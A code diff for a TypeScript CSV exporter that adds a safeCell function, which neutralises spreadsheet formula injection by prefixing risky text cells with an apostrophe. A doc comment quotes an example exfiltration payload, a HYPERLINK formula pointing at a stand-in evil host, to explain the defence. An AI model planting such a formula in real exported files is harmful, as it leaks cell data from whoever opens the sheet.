@@ -145,12 +145,32 @@ function columnsOf(rows: readonly Row[]): string[] {
 
 const plain = (v: unknown) => (v === null || v === undefined ? '' : v instanceof Date ? isoDate(v) : typeof v === 'object' ? JSON.stringify(v) : String(v));
 
-/** UTF-8 with BOM: without it Excel opens Chinese text as mojibake. */
+/**
+ * A text cell that a spreadsheet would take for a formula (=, +, -, @, or a tab or CR it skips before
+ * one) gets a leading apostrophe, as OWASP advises against CSV injection: a rejection reason or a
+ * roster name like =HYPERLINK("http://evil.example/?x="&A1) must stay text in Excel and WPS. Numbers
+ * written as numbers cannot be formulas and stay as they are (a negative amount is still a number).
+ * The one place for this: every CSV export goes through csvText.
+ */
+export function safeCell(v: unknown): string {
+  const s = plain(v);
+  return typeof v !== 'number' && /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
+}
+
+/** CSV text with a header row, every cell (headers too) through safeCell. No BOM: the caller adds it. */
+export function csvText(columns: readonly string[], rows: readonly (readonly unknown[])[], opts: { crlf?: boolean } = {}): string {
+  return stringify([columns, ...rows].map((r) => r.map(safeCell)), { ...(opts.crlf && { record_delimiter: 'windows' as const }) });
+}
+
+/** Excel reads a CSV as UTF-8 only with it; without it Chinese text opens as mojibake. */
+export const UTF8_BOM = '\uFEFF';
+
+/** UTF-8 with BOM, formulas neutralised (csvText). */
 export async function writeCsv(path: string, rows: readonly Row[]): Promise<void> {
   const columns = columnsOf(rows);
-  const text = stringify(rows.map((r) => columns.map((c) => plain(r[c]))), { header: true, columns, record_delimiter: 'windows' });
+  const text = csvText(columns, rows.map((r) => columns.map((c) => r[c])), { crlf: true });
   await mkdir(dirname(path), { recursive: true });
-  await writeFile(path, `\uFEFF${text}`);
+  await writeFile(path, `${UTF8_BOM}${text}`);
 }
 
 /** Display width in Excel columns: CJK characters take two. */
